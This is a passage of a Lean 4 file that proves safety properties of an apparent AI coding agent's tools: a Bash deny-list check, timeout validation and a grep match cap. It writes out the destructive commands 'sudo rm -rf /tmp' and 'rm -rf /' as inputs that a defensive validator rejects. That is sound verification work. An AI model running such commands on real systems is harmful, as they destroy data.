      (NewSession [] none, .error ("tool not found: " ++ "Nope")) :=
  C6_unknown_tool_lookup ⟨[]⟩ (NewSession [] none) ⟨"Nope", [], "7"⟩
    (fun p hp => absurd hp (List.not_mem_nil p))
    (fun t ht => absurd ht (List.not_mem_nil t))

/-- C8: for every entry of the deny-list and every command string
containing it anywhere, `BashTool.ValidateInput` rejects the input with
the dangerous-operations validation error. -/
theorem C8_denylist_rejection (input : InputMap) (command banned : String)
    (hcmd : lookupInput input "command" = some (.str command))
    (hmem : banned ∈ bannedCommands)
    (hcont : strContains command banned = true) :
    bashValidateInput input =
      some "command contains potentially dangerous operations" := by
  have hbne : banned ≠ "" := by
    have hall : ∀ b ∈ bannedCommands, b ≠ "" := by decide
    exact hall banned hmem
  have hcne : command ≠ "" := by
    intro hc
    subst hc
    have h0 : banned.toList.isEmpty = true := hcont
    have h1 : banned.toList = [] := by simpa using h0
    have hb : banned = "" := by
      rw [← String.asString_toList banned, h1]
      rfl
    exact hbne hb
  have hany : bannedCommands.any (fun b => strContains command b) = true := by
    rw [List.any_eq_true]
    exact ⟨banned, hmem, hcont⟩
  simp [bashValidateInput, hcmd, hcne, hany]

/-- C8 exercised at a concrete input: a command containing the first
deny-list entry surrounded by other text. -/
theorem C8_denylist_rejection_witness :
    bashValidateInput [("command", .str "sudo rm -rf /tmp")] =
      some "command contains potentially dangerous operations" :=
  C8_denylist_rejection [("command", .str "sudo rm -rf /tmp")]
    "sudo rm -rf /tmp" "rm -rf /" rfl (by decide) (by decide)

/-- C10: with a valid command, a present timeout passes
`BashTool.ValidateInput` exactly when it is a Go `int` between 1 and 300
inclusive; any larger, non-positive or non-integer value is rejected. -/
theorem C10_timeout_validation_range (input : InputMap) (command : String) (tv : GoValue)
    (hcmd : lookupInput input "command" = some (.str command))
    (hne : command ≠ "")
    (hsafe : bannedCommands.any (fun b => strContains command b) = false)
    (htv : lookupInput input "timeout" = some tv) :
    bashValidateInput input = none ↔
      ∃ n : Int, tv = .int n ∧ 1 ≤ n ∧ n ≤ 300 := by
  simp only [bashValidateInput, hcmd, htv]
  rw [if_neg hne, if_neg (by simp [hsafe])]
  cases tv with
  | int n =>
    show (if n ≤ 0 then some "timeout must be positive"
          else if n > 300 then some "timeout cannot exceed 300 seconds"
          else none) = none ↔ ∃ m : Int, GoValue.int n = .int m ∧ 1 ≤ m ∧ m ≤ 300
    by_cases h1 : n ≤ 0
    · rw [if_pos h1]
      simp only [reduceCtorEq, GoValue.int.injEq, false_iff, not_exists, not_and]
      intro m hm
      subst hm
      omega
    · rw [if_neg h1]
      by_cases h2 : n > 300
      · rw [if_pos h2]
        simp only [reduceCtorEq, GoValue.int.injEq, false_iff, not_exists, not_and]
        intro m hm
        subst hm
        omega
      · rw [if_neg h2]
        simp only [GoValue.int.injEq, true_iff]
        exact ⟨n, rfl, by omega, by omega⟩
  | str s => simp
  | num m => simp
  | bool b => simp
  | arr xs => simp
  | null => simp

/-- C10 exercised at a concrete input: a timeout of 42 seconds passes
validation. -/
theorem C10_timeout_validation_range_witness :
    bashValidateInput [("command", .str "echo hi"), ("timeout", .int 42)] = none :=
  (C10_timeout_validation_range [("command", .str "echo hi"), ("timeout", .int 42)]
      "echo hi" (.int 42) rfl (by decide) (by decide) rfl).mpr
    ⟨42, rfl, by decide, by decide⟩

/-- The line scan never pushes the match count past the cap when it is
entered strictly below the cap. -/
theorem scanLines_length_le (file pattern : String) (maxMatches : Int)
    (lines : List String) :
    ∀ (i : Nat) (acc : List GrepMatch), (acc.length : Int) < maxMatches →
      ((scanLines file pattern maxMatches lines i acc).length : Int) ≤ maxMatches := by
  induction lines with
  | nil =>
    intro i acc h
    simpa [scanLines] using le_of_lt h
  | cons line rest ih =>
    intro i acc h
    simp only [scanLines]
    by_cases hc : strContains line pattern = true
    · rw [if_pos hc]
      by_cases hm : maxMatches ≤
          ((acc ++ [({ file := file, line := i + 1, content := line } : GrepMatch)]).length : Int)
      · rw [if_pos hm]
        simp only [List.length_append, List.length_cons, List.length_nil]
        push_cast
        omega
      · rw [if_neg hm]
        exact ih (i + 1) _ (by omega)
    · rw [if_neg hc]
      exact ih (i + 1) acc h

/-- The per-file scan never pushes the match count past the cap when it
is entered strictly below the cap. -/
theorem scanResolved_length_le (fs : FileSystem) (pattern : String) (maxMatches : Int)
    (files : List String) :
    ∀ acc : List GrepMatch, (acc.length : Int) < maxMatches →
      ((scanResolved fs pattern maxMatches files acc).length : Int) ≤ maxMatches := by
  induction files with
  | nil =>
    intro acc h
    simpa [scanResolved] using le_of_lt h
  | cons f rest ih =>
    intro acc h
    cases hl : lookupFS fs f with
    | none =>
      simp only [scanResolved, hl]
      exact ih acc h
    | some content =>
      simp only [scanResolved, hl]
      have hsl := scanLines_length_le f pattern maxMatches (splitNl content) 0 acc h
      by_cases hm : maxMatches ≤
          ((scanLines f pattern maxMatches (splitNl content) 0 acc).length : Int)
      · rw [if_pos hm]
        exact hsl
      · rw [if_neg hm]
        exact ih _ (by omega)

/-- The path scan never pushes the match count past the cap when it is
entered strictly below the cap. -/
theorem scanPaths_length_le (glob : String → List String) (fs : FileSystem)
    (pattern : String) (maxMatches : Int) (paths : List String) :
    ∀ acc : List GrepMatch, (acc.length : Int) < maxMatches →
      ((scanPaths glob fs pattern maxMatches paths acc).length : Int) ≤ maxMatches := by
  induction paths with
  | nil =>
    intro acc h
    simpa [scanPaths] using le_of_lt h
  | cons path rest ih =>
    intro acc h
    simp only [scanPaths]
    have hsr := scanResolved_length_le fs pattern maxMatches
      (if (glob path).isEmpty then [path] else glob path) acc h
    by_cases hm : maxMatches ≤
        ((scanResolved fs pattern maxMatches
          (if (glob path).isEmpty then [path] else glob path) acc).length : Int)
    · rw [if_pos hm]
      exact hsr
    · rw [if_neg hm]
      exact ih _ (by omega)

/-- C9: the grep tool returns at most `K` matches (where `K` is the
`max_matches` input, defaulting to 100 when unspecified), and scanning
short-circuits once the cap is reached: the match that reaches the cap
makes the line loop ignore all remaining lines, a file scan that reaches
the cap makes the file loop ignore all remaining files, and likewise for
the outer path loop. -/
theorem C9_grep_match_cap (glob : String → List String) (fs : FileSystem)
    (input : InputMap) (K : Int) (hK : 1 ≤ K)
    (hmax : asGoFloat (lookupInput input "max_matches") = some K ∨
      (lookupInput input "max_matches" = none ∧ K = 100))
    (out : GrepToolOutput) (hout : grepExecute glob fs input = .ok out) :
    (out.matchList.length : Int) ≤ K ∧
    (∀ (file pattern : String) (i : Nat) (acc : List GrepMatch) (line : String)
        (rest rest' : List String),
      strContains line pattern = true → K ≤ (acc.length : Int) + 1 →
      scanLines file pattern K (line :: rest) i acc =
        scanLines file pattern K (line :: rest') i acc) ∧
    (∀ (pattern f : String) (rest : List String) (acc : List GrepMatch),
      (acc.length : Int) < K →
      K ≤ ((scanResolved fs pattern K [f] acc).length : Int) →
      scanResolved fs pattern K (f :: rest) acc = scanResolved fs pattern K [f] acc) ∧
    (∀ (pattern path : String) (rest : List String) (acc : List GrepMatch),
      K ≤ ((scanPaths glob fs pattern K [path] acc).length : Int) →
      scanPaths glob fs pattern K (path :: rest) acc =
        scanPaths glob fs pattern K [path] acc) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · simp only [grepExecute] at hout
    cases hp : asGoString (lookupInput input "pattern") with
    | none =>
      simp only [hp] at hout
      exact absurd hout (by simp)
    | some pattern =>
      simp only [hp] at hout
      by_cases hpe : pattern = ""
      · rw [if_pos hpe] at hout
        exact absurd hout (by simp)
      · rw [if_neg hpe] at hout
        by_cases hfe : (extractFilePaths (lookupInput input "file_paths")).isEmpty = true
        · rw [if_pos hfe] at hout
          exact absurd hout (by simp)
        · rw [if_neg hfe] at hout
          have hKval : (asGoFloat (lookupInput input "max_matches")).getD 100 = K := by
            rcases hmax with hv | ⟨hv, hk⟩
            · rw [hv]
              rfl
            · rw [hv, hk]
              rfl
          rw [hKval] at hout
          injection hout with hout
          rw [← hout]
          exact scanPaths_length_le glob fs pattern K
            (extractFilePaths (lookupInput input "file_paths")) []
            (by simp only [List.length_nil, Int.natCast_zero]; omega)
  · intro file pattern i acc line rest rest' hc hcap
    have hfull :
        K ≤ ((acc ++ [({ file := file, line := i + 1, content := line } : GrepMatch)]).length : Int) := by
      simp only [List.length_append, List.length_cons, List.length_nil]
      push_cast
      omega
    simp only [scanLines]
    rw [if_pos hc, if_pos hfull, if_pos hc, if_pos hfull]
  · intro pattern f rest acc hlt hcap
    cases hl : lookupFS fs f with
    | none =>
      rw [show scanResolved fs pattern K [f] acc = acc by
        simp [scanResolved, hl]] at hcap
      omega
    | some content =>
      have hone : scanResolved fs pattern K [f] acc =
          scanLines f pattern K (splitNl content) 0 acc := by
        simp only [scanResolved, hl]
        split <;> rfl
      rw [hone] at hcap
      rw [hone]
      simp only [scanResolved, hl]
      rw [if_pos hcap]
  · intro pattern path rest acc hcap
    have hone : scanPaths glob fs pattern K [path] acc =
        scanResolved fs pattern K
          (if (glob path).isEmpty then [path] else glob path) acc := by
      simp only [scanPaths]
      split <;> exact ite_self _
    rw [hone] at hcap
    rw [hone]
    simp only [scanPaths]
    rw [if_pos hcap]

/-- C9 exercised at a concrete input: a cap of one match over a file
with two matching lines yields exactly one match. -/
theorem C9_grep_match_cap_witness :
    ((({ matchList := [{ file := "w.txt", line := 1, content := "TODO x" }]
         error := "" } : GrepToolOutput)).matchList.length : Int) ≤ 1 :=
  (C9_grep_match_cap (fun _ => []) [("w.txt", "TODO x\nTODO y")]
      [("pattern", .str "TODO"), ("file_paths", .str "w.txt"),
       ("max_matches", .num 1)]
      1 (by decide) (Or.inl rfl)
      { matchList := [{ file := "w.txt", line := 1, content := "TODO x" }]
        error := "" } rfl).1

end AigoKode
